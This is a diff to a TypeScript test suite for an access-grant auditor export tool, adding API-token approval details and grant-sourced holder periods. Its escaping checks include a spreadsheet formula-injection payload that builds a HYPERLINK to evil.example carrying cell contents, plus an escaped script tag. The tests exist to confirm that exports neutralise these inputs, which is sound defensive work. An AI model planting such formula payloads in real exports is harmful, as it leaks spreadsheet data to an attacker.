@@ -11,7 +11,7 @@ import type { JournalEntry } from '../../../lib/ports/index.js';
 import { entryRowKey } from '../../../lib/hashChain.js';
 import { openTestStore } from '../../support/store.js';
 import { captureIo } from '../../../testkit/captureIo.js';
-import { csvObjects, INJECTION, seedHistory, T } from './support.js';
+import { csvObjects, INJECTION, LIDIA_TOKEN, seedHistory, T } from './support.js';
 
 const clock = new ManualClock('2026-03-01T14:00:00Z');
 
@@ -92,7 +92,10 @@ describe('auditor exports (Azurite)', () => {
       approvedBy: 'lidiah@contoso.onmicrosoft.com',
       status: 'revoked',
     });
-    expect(row?.approvals).toBe(`approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')}`);
+    expect(row?.approvals).toBe(
+      `approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')} via api token (oid ${LIDIA_TOKEN.oid}, tid ${LIDIA_TOKEN.tid}, app ${LIDIA_TOKEN.appId}, issuer ${LIDIA_TOKEN.issuer})`,
+    );
+    expect(row?.approvedVia).toBe('api');
     expect(Object.values(row ?? {}).every((cell) => !/^[=+\-@\t\r]/.test(cell))).toBe(true);
 
     const json = JSON.parse((await collect(deps, { kind: 'grants', format: 'json', period: {} })).text) as {
@@ -113,13 +116,16 @@ describe('auditor exports (Azurite)', () => {
   it('exports holder periods and findings with how they were resolved', async () => {
     const { deps, alex, lynne, adele } = await seeded();
     const holders = csvObjects((await collect(deps, { kind: 'holders', format: 'csv', period: {}, bom: false })).text);
-    expect(holders.map((h) => [h.principal, h.scope, h.from, h.until, h.endedBy])).toEqual([
-      [lynne.principal, 'Organization', T('08:00'), T('11:00'), 'changed'],
-      [alex.principal, 'Organization', T('08:00'), T('12:15'), 'removed'],
-      [adele.principal, 'Organization', T('09:15'), T('13:05'), 'removed'],
-      [lynne.principal, 'Sales OU', T('11:00'), '', ''],
+    // Each period says its source: the audit's reads, or the grant's own events (activation to verified removal).
+    expect(holders.map((h) => [h.principal, h.scope, h.from, h.until, h.endedBy, h.source, h.grantId])).toEqual([
+      [lynne.principal, 'Organization', T('08:00'), T('11:00'), 'changed', 'audit', ''],
+      [alex.principal, 'Organization', T('08:00'), T('12:15'), 'removed', 'audit', ''],
+      [adele.principal, 'Organization', T('09:10'), T('13:00'), 'removed', 'grant', 'g-1'],
+      [adele.principal, 'Organization', T('09:15'), T('13:05'), 'removed', 'audit', ''],
+      [lynne.principal, 'Sales OU', T('11:00'), '', '', 'audit', ''],
     ]);
-    expect(holders[3]).toMatchObject({
+    expect(holders[2]).toMatchObject({ path: 'direct assignment of grant g-1', assignmentGuid: adele.assignmentGuid });
+    expect(holders[4]).toMatchObject({
       firstSeen: T('08:00'),
       startedBy: 'changed',
       path: 'via role group PST Migration Operators',
@@ -127,7 +133,11 @@ describe('auditor exports (Azurite)', () => {
     const afterAlex = csvObjects(
       (await collect(deps, { kind: 'holders', format: 'csv', period: { from: T('12:15') }, bom: false })).text,
     );
-    expect(afterAlex.map((h) => h.principal)).toEqual([adele.principal, lynne.principal]);
+    expect(afterAlex.map((h) => [h.principal, h.source])).toEqual([
+      [adele.principal, 'grant'],
+      [adele.principal, 'audit'],
+      [lynne.principal, 'audit'],
+    ]);
 
     const findings = JSON.parse((await collect(deps, { kind: 'findings', format: 'json', period: {} })).text) as {
       records: Record<string, unknown>[];
@@ -163,7 +173,9 @@ describe('auditor exports (Azurite)', () => {
     expect(text).toContain('&lt;script&gt;alert(&quot;Adele&quot;)&lt;/script&gt;');
     expect(text).not.toContain('<script>');
     expect(text).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1');
-    expect(text).toContain(`approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')}`);
+    expect(text).toContain(
+      `approved by lidiah@contoso.onmicrosoft.com at ${T('09:05')} via api token (oid ${LIDIA_TOKEN.oid}`,
+    );
     expect(text).toContain('assignment.removed by pattif@contoso.onmicrosoft.com');
     expect(text).toContain('1 grant(s) overlap the period.');
   });
@@ -174,7 +186,8 @@ describe('auditor exports (Azurite)', () => {
     expect(
       await exportCommand(['--format', 'ndjson', '--kind', 'holders', '--from', '2026-03-01T12:00:00Z'], io, deps),
     ).toBe(0);
-    expect(io.stdout.trimEnd().split('\n')).toHaveLength(3);
+    // From noon: alex's period, the grant's and the audit's of adele, lynne's current one.
+    expect(io.stdout.trimEnd().split('\n')).toHaveLength(4);
     expect(io.stderr).toContain('Journal intact: 13 entries');
     await expect(exportCommand(['--format', 'xml'], captureIo(), deps)).rejects.toThrow(
       '--format must be one of csv, json, ndjson, html',
